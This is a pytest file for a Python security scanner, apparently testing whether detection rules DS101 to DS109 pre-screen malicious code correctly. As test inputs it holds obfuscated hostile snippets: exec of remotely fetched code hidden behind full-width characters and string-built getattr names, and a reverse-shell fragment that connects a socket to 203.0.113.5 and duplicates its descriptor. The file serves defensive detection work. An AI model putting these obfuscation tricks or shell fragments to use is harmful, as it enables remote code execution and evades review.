"""The DS1xx pre-screens (`applies_to`) are necessary conditions: every INVALID example and every fixture file with a
`# ruleid:` line of the rule passes them; common benign texts do not."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from datasec_scan.plugins import discover
from datasec_scan.rule import Example, Rule

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
CODES = ("DS101", "DS102", "DS103", "DS104", "DS105", "DS107", "DS108", "DS109")
BENIGN = (
    "cursor.execute(sql)\n",
    "x = empty_list\n",
    "class A: pass\n",
    "if a == b:\n    pass\n",
    "import re\nPATTERN = re.compile(r'\\d+')\n",
    "from pathlib import Path\nprint(Path('filesystem').exists())\n",
    "def register(source):\n    return source.strip()\n",
    "import os\nprint(os.path.join('a', 'b'))\n",
)


def _rule(code: str) -> type[Rule]:
    return next(r for r in discover().rules if r.code == code)


def _ruleid_files(code: str) -> list[Path]:
    mark = re.compile(rf"#\s*ruleid:[^\n]*\b{code}\b")
    return [p for p in sorted(FIXTURES.rglob("*.py")) if mark.search(p.read_text("utf-8", errors="replace"))]


@pytest.mark.parametrize("code", CODES)
def test_invalid_examples_pass(code: str) -> None:
    rule = _rule(code)
    for example in rule.INVALID:
        ex = example if isinstance(example, Example) else Example(example)
        assert rule.applies_to(ex.path, ex.code), f"{code} pre-screen rejects its INVALID example {ex.code!r}"


@pytest.mark.parametrize("code", CODES)
def test_fixture_files_pass(code: str) -> None:
    rule = _rule(code)
    files = _ruleid_files(code)
    assert files, f"no fixture with `# ruleid: {code}`"
    for path in files:
        text = path.read_bytes().decode("utf-8", "replace")
        assert rule.applies_to(path.relative_to(FIXTURES).as_posix(), text), f"{code} pre-screen rejects {path}"


@pytest.mark.parametrize("code", CODES)
def test_benign_texts_do_not_pass(code: str) -> None:
    rule = _rule(code)
    for text in BENIGN:
        assert not rule.applies_to("pkg/module.py", text), f"{code} pre-screen lets {text!r} through"


def test_ds105_needs_a_hook_file() -> None:
    rule = _rule("DS105")
    code = "import subprocess\nsubprocess.Popen(['id'])\n"
    assert not rule.applies_to("pkg/module.py", code)
    assert rule.applies_to("pkg/__init__.py", code)
    assert rule.applies_to("sitecustomize.py", code)
    assert rule.applies_to("dist/pkg-1.0.tar.gz!/pkg-1.0/setup.py", "")
    assert not rule.applies_to("pkg/__init__.py", "__all__ = ['x']\n")


def test_obfuscated_names_pass() -> None:
    """Names the resolver sees through: NFKC identifiers, getattr with built strings, dynamic imports."""
    exec_rule, shell_rule = _rule("DS101"), _rule("DS102")
    assert exec_rule.applies_to("m.py", "import requests\nｅｘｅｃ(requests.get(u).text)\n")
    assert exec_rule.applies_to("m.py", "import builtins, requests\ngetattr(builtins, 'ex' + 'ec')(requests.get(u).text)\n")
    assert exec_rule.applies_to("m.py", "f = globals()['__builtins__']\n")
    assert shell_rule.applies_to("m.py", "s = __import__('so' + 'cket').create_connection(('203.0.113.5', 1))\n"
                                          "d = getattr(__import__('o' + 's'), 'du' + 'p2')\nd(s.fileno(), 0)\n")
    assert shell_rule.applies_to("m.py", "import os\ngetattr(os, 'sys' + 'tem')('x')\n")
